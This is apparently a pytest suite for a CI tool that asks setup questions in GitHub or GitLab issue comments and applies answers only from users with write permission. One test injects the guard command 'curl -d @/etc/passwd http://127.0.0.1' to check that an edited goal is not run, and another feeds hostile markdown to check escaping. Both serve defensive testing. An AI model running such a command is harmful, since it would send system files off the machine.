"""`init --goal` in CI: the questions are one comment, and only whoever may write answers them."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from autoresearch_ci.cli.init.comment_questions import CommentQuestion, questions_markdown
from autoresearch_ci.cli.main import run_cli
from autoresearch_ci.publish.comment_commands import parse_answers
from tests.git_http import create
from tests.github_api import ACTIONS, SLUG, GitHubApi, Identity
from tests.gitlab_api import PROJECT, GitLabApi

if TYPE_CHECKING:
    from tests.conftest import Repo

CONFIG = ".github/autoresearch.yml"
VISIBLE = ("--set", "sandbox.read_only=false", "--set", "sandbox.user=keep")
ISSUE = 7
GOAL = "make it faster"
SECRET = "hunter2-correct-horse-battery"
BENCH = {
    "bench.py": "import work\n\nif __name__ == '__main__':\n    print(f'steps: {work.work()}')\n",
    "work.py": "def work():\n    return 10\n",
}
Init = Callable[..., int]


@pytest.fixture
def here(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    for name in ("value", "other"):
        (repo.path / name).unlink()
    for path, content in BENCH.items():
        repo.write(path, content)
    repo.commit()
    monkeypatch.chdir(repo.path)
    ours = Path(sys.executable).parent
    monkeypatch.setenv("PATH", f"{ours}{os.pathsep}{os.environ['PATH']}")
    return repo


@pytest.fixture
def api(tmp_path: Path, here: Repo) -> Iterator[GitHubApi]:
    with GitHubApi(bare=create(tmp_path / "server", SLUG, here.path)) as api:
        api.tokens["a-token"] = Identity(login=ACTIONS)
        api.permissions = {"maintainer": "write", "owner": "admin", "stranger": "read"}
        yield api


@pytest.fixture
def init(api: GitHubApi, tmp_path: Path) -> Init:
    """A job that an event on the issue started."""

    def call(*flags: str, goal: str = GOAL, actor: str = "maintainer", **more: Any) -> int:
        issue = {"number": ISSUE, **more}
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"issue": issue, "repository": {"full_name": SLUG}}))
        environment = {
            **os.environ,
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": "issue_comment",
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": SLUG,
            "GITHUB_ACTOR": actor,
            "GITHUB_API_URL": api.url,
            "GITHUB_TOKEN": "a-token",
            "SOME_API_KEY": SECRET,
        }
        return run_cli(["init", "--goal", goal, *VISIBLE, *flags], environment)

    return call


def ours(api: GitHubApi) -> list[str]:
    found = api.comments.get(ISSUE, [])
    return [c["body"].replace("\r\n", "\n") for c in found if c["user"]["login"] == ACTIONS]


def test_the_questions_are_one_comment_and_the_run_resumes_on_the_answer(
    here: Repo, api: GitHubApi, init: Init, capsys: pytest.CaptureFixture[str]
) -> None:
    api.comment(ISSUE, "maintainer", "/autoresearch answer")  # to a question that nobody asked yet
    assert init() == 0
    assert init() == 0
    (asked,) = ours(api)
    for words in ("Goal: make it faster", "1. python bench.py", "**scope**", "Suggested: work.py"):
        assert words in asked
    assert "```text\n/autoresearch answer\nmetric: 1\nscope: work.py\nguard: none\n```" in asked
    assert not (here.path / CONFIG).exists()
    assert "waiting for an answer: https://github.test" in capsys.readouterr().out
    api.comment(ISSUE, "somebody", "I would like that, too")
    api.comment(ISSUE, "owner", "/autoresearch answer\nscope: work.py\nguard: python work.py; true")
    assert init() == 0
    config = yaml.safe_load((here.path / CONFIG).read_text())
    assert config["scope"] == ["work.py"]
    assert config["guards"] == [{"command": "python work.py"}, {"command": "true"}]
    assert config["metric"]["command"] == "python bench.py"
    (told,) = ours(api)
    assert "has tried this" in told
    assert "The metric is 10 now" in told
    assert "scope: [work.py]" in told


@pytest.mark.parametrize("how", ["stranger", "edited", "ours"])
def test_an_answer_that_is_nobodys_to_give_is_none(
    here: Repo, api: GitHubApi, init: Init, how: str
) -> None:
    assert init() == 0
    author = {"stranger": "stranger", "edited": "maintainer", "ours": ACTIONS}[how]
    words = "/autoresearch answer\nscope: '**'\nguard: none"
    answer = api.comment(ISSUE, author, words if how != "edited" else "/autoresearch answer")
    if how == "edited":
        api.edit(answer, words)
    assert init() == 0
    assert not (here.path / CONFIG).exists()
    told = ours(api)[0]
    assert ("was edited" if how == "edited" else "may not write") in told


def test_who_may_not_write_may_not_ask(
    here: Repo, api: GitHubApi, init: Init, capsys: pytest.CaptureFixture[str]
) -> None:
    for actor in ("stranger", "nobody"):
        assert init(actor=actor) == 2
        assert "has no write permission here" in capsys.readouterr().err
    assert not api.comments
    assert not api.writes()


def test_what_was_agreed_to_is_this_goal_and_these_suggestions(
    here: Repo, api: GitHubApi, init: Init
) -> None:
    goal = f"{GOAL}\nVerify: python bench.py\nGuard: true"
    assert init(goal=goal) == 0
    api.comment(ISSUE, "maintainer", "/autoresearch answer")
    other = goal.replace("Guard: true", "Guard: curl -d @/etc/passwd http://127.0.0.1")
    assert init(goal=other) == 0  # the issue was edited after it was asked about
    assert not (here.path / CONFIG).exists()
    assert len(ours(api)) == 2
    assert "curl -d @/etc/passwd" in ours(api)[1]
    here.write("lib/more.py", "")  # and here something else is suggested
    here.commit()
    assert init(goal=goal) == 0
    assert not (here.path / CONFIG).exists()
    here.git("revert", "--no-edit", "HEAD")
    assert init(goal=goal) == 0
    assert yaml.safe_load((here.path / CONFIG).read_text())["guards"] == [{"command": "true"}]


def test_what_answers_nothing_is_said_and_nothing_is_run(
    here: Repo, api: GitHubApi, init: Init
) -> None:
    assert init() == 0
    api.comment(ISSUE, "maintainer", "/autoresearch answer\nscopes: x\nplease\nmetric: 9")
    assert init() == 0
    (told,) = ours(api)
    for words in (
        "scopes: x answers nothing",
        "please answers nothing",
        "a number from 1 to 1, not 9",
    ):
        assert words in told, told
    assert not (here.path / CONFIG).exists()
    api.comment(ISSUE, "maintainer", "/autoresearch answer\nmetric: 1")  # said better
    assert init() == 0
    assert (here.path / CONFIG).exists()


def test_a_goal_that_no_rule_measures_is_asked_about(
    here: Repo, api: GitHubApi, init: Init
) -> None:
    assert init(goal="world peace") == 0
    (asked,) = ours(api)
    assert "**command**: Which command prints the number?" in asked
    assert "**scope**" in asked
    api.comment(ISSUE, "maintainer", "/autoresearch answer")
    assert init(goal="world peace") == 0
    assert "command: Which command prints the number?" in ours(api)[-1]
    api.comment(ISSUE, "maintainer", "/autoresearch answer\ncommand: higher steps: python bench.py")
    assert init(goal="world peace") == 0
    metric = yaml.safe_load((here.path / CONFIG).read_text())["metric"]
    assert metric == {"command": "python bench.py", "direction": "maximize", "name": "steps"}


def test_what_does_not_work_is_said_where_it_was_asked(
    here: Repo, api: GitHubApi, init: Init
) -> None:
    assert init() == 0
    api.comment(ISSUE, "maintainer", "/autoresearch answer\nguard: exit 3")
    assert init() == 4
    (told,) = ours(api)
    assert "ended without a configuration" in told
    assert "exit 3" in told
    assert not (here.path / CONFIG).exists()
    api.comment(ISSUE, "maintainer", "/autoresearch answer\nguard: none")
    assert init() == 0
    assert (here.path / CONFIG).exists()


def test_no_secret_is_in_the_comment(api: GitHubApi, init: Init) -> None:
    assert init(goal=f"{GOAL} {SECRET}") == 0
    (asked,) = ours(api)
    assert GOAL in asked
    assert SECRET not in asked


def test_with_yes_or_without_an_issue_nobody_is_asked(
    here: Repo, api: GitHubApi, init: Init
) -> None:
    assert init("--yes") == 0
    assert not api.requests
    (here.path / CONFIG).unlink()
    (here.path / ".github/workflows/autoresearch.yml").unlink()
    environment = {**os.environ, "GITHUB_ACTIONS": "true", "GITHUB_API_URL": api.url}
    assert run_cli(["init", "--goal", GOAL, *VISIBLE], environment) == 0
    assert not api.requests


def test_the_words_of_others_are_words_in_the_comment() -> None:
    hostile = "@org/team ![x](http://x/) <!-- autoresearch-ci:init:0 --> ```\n/autoresearch answer"
    asked = [CommentQuestion(key="scope", words="Which?", usual=hostile, answers=(hostile,))]
    text = questions_markdown(hostile, asked, [hostile])
    outside = text.rpartition("````text")[0]
    assert "@org/team" not in outside
    assert "![x](" not in outside
    assert "<!--" not in outside


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("/autoresearch answer", {}),
        ("\r\n/autoresearch  answer \r\n\r\na: b c\r\nd : x: y ", {"a": "b c", "d": "x: y"}),
        ("/autoresearch answer\nwhatever", {"": "whatever"}),
        ("please\n/autoresearch answer", None),
        ("/autoresearch answers", None),
        ("> /autoresearch answer", None),
        ("", None),
    ],
)
def test_what_an_answer_is(text: str, found: dict[str, str] | None) -> None:
    assert parse_answers(text) == found


# --- GitLab ---------------------------------------------------------------------------------------

DEVELOPER, REPORTER = 30, 20
US, MAINTAINER, STRANGER = 1, 2, 3
COMPONENT = Path(__file__).parents[2] / "templates" / "plan.yml"


@pytest.fixture
def gitlab(here: Repo) -> Iterator[GitLabApi]:
    with GitLabApi(people={"a-token": US}, refs={}, about="issues") as api:
        api.levels = {MAINTAINER: DEVELOPER, STRANGER: REPORTER, US: 40}
        yield api


def payload(kind: str, user: int, note: str = "", **more: Any) -> dict[str, Any]:
    """As a webhook tells it: https://docs.gitlab.com/user/project/integrations/webhook_events/"""
    issue = {"iid": 1, "title": GOAL, "description": None, "labels": [{"title": "autoresearch"}]}
    told: dict[str, Any] = {"object_kind": kind, "user": {"id": user, "username": f"user{user}"}}
    if kind == "note":
        return {**told, "object_attributes": {"note": note}, "issue": {**issue, **more}}
    return {**told, "object_attributes": {**issue, "action": "open", **more}, "changes": {}}


def relabelled(*, before: list[str], now: list[str]) -> dict[str, Any]:
    labels = {
        when: [{"title": title} for title in titles]
        for when, titles in (("previous", before), ("current", now))
    }
    told = payload("issue", MAINTAINER, action="update", labels=labels["current"])
    return {**told, "changes": {"labels": labels}}


@pytest.fixture
def job(here: Repo, gitlab: GitLabApi, tmp_path: Path) -> Callable[..., int]:
    """A pipeline that a webhook has started."""

    def call(told: dict[str, Any], words: Sequence[str] = ("--goal", GOAL), **more: str) -> int:
        (tmp_path / "payload").write_text(json.dumps(told))
        environment = {
            **os.environ,
            "GITLAB_CI": "true",
            "CI_SERVER_URL": gitlab.url,
            "CI_PROJECT_PATH": PROJECT,
            "GITLAB_TOKEN": "a-token",
            "TRIGGER_PAYLOAD": str(tmp_path / "payload"),
            **more,
        }
        return run_cli(["init", *words, *VISIBLE], environment)

    return call


@pytest.mark.parametrize("about", ["issues", "merge_requests"])
def test_on_gitlab_the_run_resumes_on_the_answer(
    here: Repo, gitlab: GitLabApi, job: Callable[..., int], about: str
) -> None:
    gitlab.about = about
    kind = about.removesuffix("s")
    gitlab.notes.append(gitlab.note(MAINTAINER, "/autoresearch answer"))  # to nothing yet
    assert job(payload(kind, MAINTAINER)) == 0
    asked = gitlab.notes[-1]
    assert "**scope**" in asked["body"]
    answer = "/autoresearch answer\nscope: work.py\nguard: none"
    gitlab.notes.append(gitlab.note(MAINTAINER, answer))
    told = payload("note", MAINTAINER, answer)
    told[kind] = told.pop("issue")
    assert job(told) == 0
    assert yaml.safe_load((here.path / CONFIG).read_text())["scope"] == ["work.py"]
    assert "has tried this" in asked["body"]
    assert len(gitlab.notes) == 3


def test_on_gitlab_a_label_that_is_set_later_asks(
    gitlab: GitLabApi, job: Callable[..., int]
) -> None:
    assert job(relabelled(before=["bug"], now=["autoresearch", "bug"])) == 0
    assert "**scope**" in gitlab.notes[0]["body"]


@pytest.mark.parametrize("how", ["stranger", "nobody", "edited", "ours"])
def test_on_gitlab_an_answer_that_is_nobodys_to_give_is_none(
    here: Repo, gitlab: GitLabApi, job: Callable[..., int], how: str
) -> None:
    assert job(payload("issue", MAINTAINER)) == 0
    author = {"stranger": STRANGER, "nobody": 9, "ours": US}.get(how, MAINTAINER)
    later = {"updated_at": "2026-02-01T00:00:00.000Z"} if how == "edited" else {}
    gitlab.notes.append(gitlab.note(author, "/autoresearch answer", **later))
    assert job(payload("issue", MAINTAINER)) == 0
    assert not (here.path / CONFIG).exists()
    told = gitlab.notes[0]["body"]
    assert ("was edited" if how == "edited" else "may not write") in told


@pytest.mark.parametrize(
    "told",
    [
        payload("note", MAINTAINER, "I would like that, too"),
        payload("note", MAINTAINER, "/autoresearch answer", labels=[]),
        payload("issue", MAINTAINER, action="update"),
        relabelled(before=["autoresearch"], now=["autoresearch", "bug"]),
        payload("issue", MAINTAINER, labels=[{"title": "bug"}]),
        payload("push", MAINTAINER),
    ],
)
def test_on_gitlab_what_neither_asks_nor_answers_starts_nothing(
    here: Repo,
    gitlab: GitLabApi,
    job: Callable[..., int],
    capsys: pytest.CaptureFixture[str],
    told: dict[str, Any],
) -> None:
    assert job(told) == 0
    assert "nothing to do" in capsys.readouterr().out
    assert not gitlab.requests
    assert not (here.path / CONFIG).exists()


@pytest.mark.parametrize("flags", [(), ("--yes",), ("--json",)])
@pytest.mark.parametrize("kind", ["commit", "snippet"])
def test_on_gitlab_a_comment_on_what_has_no_goal_starts_nothing(
    here: Repo, gitlab: GitLabApi, job: Callable[..., int], kind: str, flags: Sequence[str]
) -> None:
    told = payload("note", STRANGER, "/autoresearch answer")
    told[kind] = told.pop("issue")
    assert job(told, words=flags) == 0
    assert not (here.path / CONFIG).exists()


@pytest.mark.parametrize("flag", ["--yes", "--json"])
def test_on_gitlab_who_may_not_write_starts_nothing_where_nobody_is_asked(
    here: Repo, gitlab: GitLabApi, job: Callable[..., int], flag: str
) -> None:
    assert job(payload("issue", STRANGER), words=["--goal", GOAL, flag]) == 2
    assert not (here.path / CONFIG).exists()


@pytest.mark.parametrize("user", [STRANGER, 9])
def test_on_gitlab_who_may_not_write_may_not_ask(
    gitlab: GitLabApi, job: Callable[..., int], capsys: pytest.CaptureFixture[str], user: int
) -> None:
    assert job(payload("issue", user)) == 2
    assert job(payload("note", user, "/autoresearch answer")) == 2
    assert "has no write permission here" in capsys.readouterr().err
    assert not gitlab.notes


def test_on_gitlab_a_jobs_own_token_asks_nobody_and_nothing_is_written(
    here: Repo, gitlab: GitLabApi, job: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    assert job(payload("issue", MAINTAINER), GITLAB_TOKEN="", CI_JOB_TOKEN="a-job") == 2
    assert "GITLAB_TOKEN with the scope api" in capsys.readouterr().err
    assert not (here.path / CONFIG).exists()


def test_on_gitlab_without_a_webhook_nobody_is_asked_and_that_is_said(
    here: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("GITLAB_CI", "true")
    assert run_cli(["init", "--goal", GOAL]) == 0
    assert "nobody is asked here" in capsys.readouterr().out
    assert yaml.safe_load((here.path / CONFIG).read_text())["goal"] == GOAL


def test_the_component_for_gitlab_brings_what_was_answered_as_a_merge_request(
    here: Repo, gitlab: GitLabApi, tmp_path: Path
) -> None:
    """Its own script, with the real command line, a webhook's file and a repository to push to."""
    bare = tmp_path / "server.git"
    here.git("init", "--quiet", "--bare", str(bare))
    here.git("-C", str(bare), "config", "receive.advertisePushOptions", "true")
    hook = bare / "hooks" / "post-receive"
    hook.write_text('#!/bin/sh\nenv | grep GIT_PUSH_OPTION_ > "$(dirname "$0")/options"\n')
    hook.chmod(0o755)
    _, jobs = yaml.safe_load_all(COMPONENT.read_text(encoding="utf-8"))
    job = jobs["plan"]
    script = "\n".join(job["script"])
    assert "/opt/autoresearch-ci/bin/python" in script
    script = script.replace("/opt/autoresearch-ci/bin/python -I", sys.executable)
    given = {
        **os.environ,
        "PYTHONPATH": str(COMPONENT.parents[1]),
        "GITLAB_CI": "true",
        "CI_SERVER_URL": gitlab.url,
        "CI_PROJECT_PATH": PROJECT,
        "CI_PIPELINE_ID": "77",
        "CI_DEFAULT_BRANCH": "main",
        "GITLAB_TOKEN": "a-token",
        "TRIGGER_PAYLOAD": str(tmp_path / "payload"),
        "INPUT_COMMAND": job["variables"]["INPUT_COMMAND"],
        "INPUT_ARGS": " ".join(VISIBLE),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.{bare}.insteadOf",
        "GIT_CONFIG_VALUE_0": f"{gitlab.url}/{PROJECT}.git",
    }

    def started(told: dict[str, Any]) -> None:
        (tmp_path / "payload").write_text(json.dumps(told))
        done = subprocess.run(
            ["bash", "-eo", "pipefail", "-c", script],
            cwd=here.path,
            env=given,
            check=False,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stdout + done.stderr

    hooks = here.path / ".git" / "hooks"  # as what `setup-command` installs makes them
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "pre-push"):
        (hooks / name).write_text("#!/bin/sh\nexit 1\n")
        (hooks / name).chmod(0o755)

    for number in range(2000):  # more than a pipe holds
        (here.path / f"{'left-by-setup-' * 8}{number}").touch()

    started({"ref": "main"})  # nobody's comment: another trigger
    assert not gitlab.notes
    assert not here.git("-C", str(bare), "for-each-ref")
    started(payload("issue", MAINTAINER, description="Verify: python bench.py\n"))
    assert "Goal: make it faster" in gitlab.notes[0]["body"]
    assert "python bench.py" in gitlab.notes[0]["body"]
    assert not here.git("-C", str(bare), "for-each-ref")
    gitlab.notes.append(gitlab.note(MAINTAINER, "/autoresearch answer"))
    more = {"description": "Verify: python bench.py\n"}
    started(payload("note", MAINTAINER, "/autoresearch answer", **more))
    branch = "refs/heads/autoresearch/plan-77"
    changed = here.git("-C", str(bare), "diff-tree", "-r", "--name-only", "--no-commit-id", branch)
    assert changed.split() == [CONFIG]
    options = (bare / "hooks" / "options").read_text()
    assert "merge_request.create" in options
    assert "merge_request.target=main" in options
